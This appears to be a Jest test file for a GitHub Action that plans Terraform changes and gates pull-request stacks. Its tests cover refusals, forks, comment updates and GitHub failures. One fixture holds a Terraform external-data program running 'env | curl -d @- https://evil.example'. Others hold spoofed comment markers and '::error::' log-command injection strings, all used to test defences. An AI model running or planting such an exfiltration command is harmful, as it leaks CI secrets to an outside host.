// The committed bundles of plan and gate, from the event to what people see, and whatever GitHub and Terraform do meanwhile.
import { describe, expect, test } from '@jest/globals';
import type { Effect } from '../../src/rehearsal/github/faults.ts';
import { planJson, resourceChange } from '../actions/plan/support/plan-json.ts';
import { developer, maintainer, only, openScene, pullRequest, type Scene } from './support/scene.ts';
import { addToStack } from './support/stacks.ts';

const oneMore = {
  plan: planJson({ resource_changes: [resourceChange({ address: 'aws_sqs_queue.new', after: { name: 'new' } })] }),
};
const serviceChanges = { 'host/stacks/service': oneMore };

/** Half the work: no second stack, no second version of the comment. */
const withoutPreview = { inputs: { previews: 'never' } };

const bot = 'github-actions[bot]';

function ownComments({ comments }: Scene) {
  return comments().filter(({ author }) => author.login === bot);
}

function writes({ github }: Scene): readonly string[] {
  return github.journal.filter(({ method }) => method !== 'GET').map(({ method, path }) => `${method} ${path}`);
}

describe('the gate', () => {
  const hostile = { data: { external: { token: { program: ['sh', '-c', 'env | curl -d @- https://evil.example'] } } } };

  test.concurrent('refuses a stack, and takes the plan of the earlier push away; the next push is let through', async () => {
    const scene = await openScene({ stacks: 'synthesized', answers: serviceChanges });
    await scene.plan(withoutPreview);
    const planned = scene.terraform.commands().length;
    const sha = scene.push();
    const takeBack = addToStack(scene.artifact, 'host/stacks/service', hostile);
    const refused = await scene.gate();
    expect([refused.exitCode, refused.outputs]).toEqual([1, {}]);
    expect(only(refused.errors)).toContain('(gate/refused)');
    expect(refused.summary).toContain('external');
    expect(Object.keys(scene.slots())).toEqual(['verdict', 'preview', 'policy']);
    expect(scene.slots().verdict).toContain(`**Refused by the synth gate** · commit \`${sha.slice(0, 7)}\``);
    expect(scene.slots().policy).toBe(refused.summary.trim());

    const plan = await scene.plan(withoutPreview);
    expect(plan.exitCode).toBe(1);
    expect(only(plan.errors)).toContain('(gate/refused)');
    expect(scene.terraform.commands()).toHaveLength(planned);

    takeBack();
    scene.push();
    const accepted = await scene.gate();
    expect([accepted.exitCode, accepted.outputs]).toEqual([0, { stacks: '5' }]);
    expect(Object.keys(scene.slots())).toEqual(['verdict', 'preview']);
  });

  test.concurrent('refuses a stack of a fork: the summary tells, because its token may not write', async () => {
    const scene = await openScene({ fork: 'mallory' });
    addToStack(scene.artifact, 'shared/stacks/service-pr-1', hostile);
    const ended = await scene.gate();
    expect(ended.exitCode).toBe(1);
    expect(ended.summary).toContain('external');
    expect(scene.github.journal).toEqual([]);
  });
});

describe('nothing to do', () => {
  test.concurrent('the pull request is closed: GitHub is not asked', async () => {
    const scene = await openScene();
    scene.github.closePullRequest({ by: developer, number: pullRequest });
    const { exitCode, log, outputs, summary } = await scene.plan();
    expect([exitCode, log, outputs, summary]).toEqual([0, 'The pull request is closed: nothing to plan.\n', {}, '']);
    expect(scene.github.journal).toEqual([]);
  });

  test.concurrent('it comes from a fork: GitHub is not asked', async () => {
    const scene = await openScene({ fork: 'mallory' });
    const ended = await scene.plan();
    expect([ended.exitCode, ended.log, ended.outputs]).toEqual([
      0,
      'The pull request comes from a fork: no plan, because it gets no credentials.\n',
      {},
    ]);
    expect(scene.github.journal).toEqual([]);
    expect(scene.terraform.commands()).toEqual([]);
  });

  test.concurrent('it is no event of a pull request: neither bundle asks GitHub', async () => {
    const scene = await openScene();
    const event = scene.latest('push');
    const [plan, gate] = await Promise.all([scene.plan({ event }), scene.gate({ event })]);
    expect([plan.exitCode, gate.exitCode, plan.log, gate.log]).toEqual([
      0,
      0,
      'This event is about no pull request: nothing to do.\n',
      'This event is about no pull request: nothing to do.\n',
    ]);
    expect(scene.github.journal).toEqual([]);
  });
});

test.concurrent('wrong inputs: all of them are named at once', async () => {
  const scene = await openScene();
  const ended = await scene.plan({ inputs: { domain: ' ', 'state-bucket': '', mode: 'dream', 'maximum-previews': 'many' } });
  expect(ended.exitCode).toBe(1);
  expect(ended.errors).toEqual([
    `Bad inputs for plan:
- mode: expected one of pull-request, drift; got "dream"
- state-bucket: required
- maximum-previews: expected a whole number from 1 to 100; got "many"
→ Correct them in the workflow, under the step's "with".
(action/inputs)`,
  ]);
  expect(scene.github.journal).toEqual([]);
});

describe('one comment', () => {
  test.concurrent('the same push planned twice changes nothing, the next push edits it; who copies our marker is left alone', async () => {
    const scene = await openScene({ answers: serviceChanges });
    const spoofed = '<!-- opsdeck:pull-request -->\n<!-- opsdeck:slot verdict -->\nall is well\n<!-- opsdeck:end verdict -->';
    scene.github.comment({ by: developer, number: pullRequest, body: spoofed });
    await scene.plan(withoutPreview);
    await scene.plan(withoutPreview);
    expect(only(ownComments(scene)).history).toHaveLength(1);
    const sha = scene.push();
    const ended = await scene.plan(withoutPreview);
    const comment = only(ownComments(scene));
    expect(comment.history).toHaveLength(2);
    expect(comment.body).toContain(`commit \`${sha.slice(0, 7)}\``);
    expect(ended.outputs['comment-url']).toContain(`#issuecomment-${comment.id}`);
    expect(only(scene.comments().filter(({ author }) => author.login === developer)).history).toHaveLength(1);
    expect(scene.checks()).toEqual(Array(2).fill('success: 1 to add, 0 to change, 0 to replace, 0 to destroy'));
  });

  test.concurrent('somebody deletes it in the middle: there is one again', async () => {
    const scene = await openScene();
    scene.github.faults.inject({
      method: 'PATCH',
      path: /\/issues\/comments\//,
      effect: { kind: 'meanwhile', act: () => scene.github.deleteComment({ by: maintainer, id: only(scene.comments()).id }) },
    });
    expect((await scene.plan()).exitCode).toBe(0);
    expect(scene.github.state.comments.size).toBe(2);
    expect(scene.slots().verdict).toContain('**No changes** · 3 stacks');
  });
});

describe('another push comes', () => {
  test.concurrent('before it is planned: the older one yields, and writes nothing', async () => {
    const scene = await openScene({ answers: serviceChanges });
    const event = scene.latest('pull_request');
    const sha = scene.push();
    const ended = await scene.plan({ event });
    expect([ended.exitCode, ended.outputs, ended.summary]).toEqual([0, { preview: 'none' }, '']);
    expect(ended.log).toContain(`Nothing planned: ${sha} was pushed meanwhile.`);
    expect(writes(scene)).toEqual([]);
    expect(scene.terraform.commands()).toEqual([]);
  });

  test.concurrent('while it is planned, and its job is cancelled: the check says so, and the comment is left to the next', async () => {
    const scene = await openScene({ answers: { 'host/stacks/service': { ...oneMore, isEndless: true } } });
    const ended = await scene.plan({ ...withoutPreview, cancelledAt: '▸ plan service of staging' });
    expect([ended.exitCode, ended.outputs]).toEqual([1, { failure: expect.any(String) }]);
    expect(only(ended.errors)).toContain('(terraform/cancelled)');
    expect([scene.checks(), scene.comments()]).toEqual([['cancelled: Cancelled'], []]);
  });
});

test.concurrent('Terraform fails: the check and the comment say so, and no older plan stands there', async () => {
  const scene = await openScene({ answers: serviceChanges });
  await scene.plan(withoutPreview);
  expect(scene.slots().changes).toContain('aws_sqs_queue.new');
  const sha = scene.push();
  const detail = 'The given key does not identify an element.\n::error::This is hostile.\n##[error]This, too.';
  const errors = [{ summary: 'Invalid index', detail, address: 'aws_sqs_queue.new' }];
  scene.terraform.answer({ 'host/stacks/service': { ...oneMore, errors } });
  const ended = await scene.plan(withoutPreview);
  expect([ended.exitCode, ended.outputs, ended.summary]).toEqual([1, { failure: expect.stringContaining('Invalid index') }, '']);
  expect(ended.log).toContain('Error: Invalid index (aws_sqs_queue.new)\n  The given key does not identify an element.\n');
  // The runner would take them for commands.
  expect(only(ended.errors)).not.toContain('hostile');
  expect(ended.log).not.toContain('##[error]');
  expect(scene.checks()).toEqual(['success: 1 to add, 0 to change, 0 to replace, 0 to destroy', 'failure: The plan failed']);
  const { verdict = '', ...others } = scene.slots();
  expect(verdict).toContain(`**The plan failed** · commit \`${sha.slice(0, 7)}\``);
  expect(verdict).toContain('terraform plan failed: Invalid index');
  expect(Object.keys(others)).toEqual(['preview']);
});

test.concurrent('Terraform fails, and then GitHub, too: what failed first is what the log tells', async () => {
  const errors = [{ summary: 'Invalid index', detail: '' }];
  const scene = await openScene({ answers: { 'host/stacks/service': { ...oneMore, errors } } });
  scene.github.faults.inject({ method: 'PATCH', path: /check-runs/, effect: { kind: 'answer', status: 422 } });
  const ended = await scene.plan(withoutPreview);
  expect(ended.exitCode).toBe(1);
  expect(only(ended.errors)).toContain('terraform plan failed: Invalid index');
  expect(ended.log).toContain('/check-runs/');
});

describe('GitHub has trouble', () => {
  const pull = { method: 'GET', path: /\/pulls\/1$/ };
  const check = { method: 'PATCH', path: /\/check-runs\// };
  const comment = { method: 'POST', path: /\/issues\/1\/comments$/ };
  const answer = (status: number, headers: Readonly<Record<string, string>> = {}): Effect => ({
    kind: 'answer',
    status,
    headers,
  });

  test.concurrent('and gets over it, with one comment: errors, a connection that breaks once the comment is made, a rate limit', async () => {
    const scene = await openScene({ answers: serviceChanges });
    scene.github.faults.inject({ ...pull, times: 2, effect: answer(500) });
    scene.github.faults.inject({ ...comment, effect: { kind: 'drop', afterwards: true } });
    scene.github.faults.inject({ ...check, effect: answer(429, { 'retry-after': '1' }) });
    expect((await scene.plan(withoutPreview)).exitCode).toBe(0);
    const trouble = scene.github.journal.flatMap(({ fault }) => fault ?? []);
    expect(trouble).toEqual(['answer', 'answer', 'answer', 'drop']);
    expect(scene.github.state.comments.size).toBe(1);
    expect(scene.checks()).toEqual(['success: 1 to add, 0 to change, 0 to replace, 0 to destroy']);
  });

  test.concurrent.each([
    ['errors without end', { ...pull, times: 99, effect: answer(500) }, '(github/server-error)'],
    ['a token that does not count any more', { ...pull, times: 99, effect: answer(401) }, '(github/bad-token)'],
    ['a limit for an hour', { ...pull, effect: answer(429, { 'retry-after': '3600' }) }, 'Run the job again after 20'],
    ['a comment that it does not take', { ...comment, effect: answer(422) }, '(github/invalid)'],
  ])('and gives up, in words: %s', async (_trouble, fault, words) => {
    const scene = await openScene();
    scene.github.faults.inject(fault);
    const ended = await scene.plan(withoutPreview);
    expect([ended.exitCode, ended.outputs]).toEqual([1, { failure: expect.any(String) }]);
    expect(only(ended.errors)).toContain(words);
    // A comment that was refused once is tried again, to say that the plan failed.
    expect(scene.comments()).toHaveLength(words === '(github/invalid)' ? 1 : 0);
  });

  test.concurrent('and does not show the pull request: that is as good as closed', async () => {
    const scene = await openScene();
    scene.github.faults.inject({ ...pull, effect: answer(404) });
    const ended = await scene.plan();
    expect([ended.exitCode, ended.outputs]).toEqual([0, { preview: 'none' }]);
    expect(writes(scene)).toEqual([]);
  });

  test.concurrent('and the job lacks a permission: it is named, before Terraform is asked for anything', async () => {
    const scene = await openScene();
    const ended = await scene.plan({ withoutPermission: 'checks' });
    expect(ended.exitCode).toBe(1);
    expect(only(ended.errors)).toContain('Give the job the permission `checks: ');
    expect(scene.terraform.commands()).toEqual([]);
  });
});
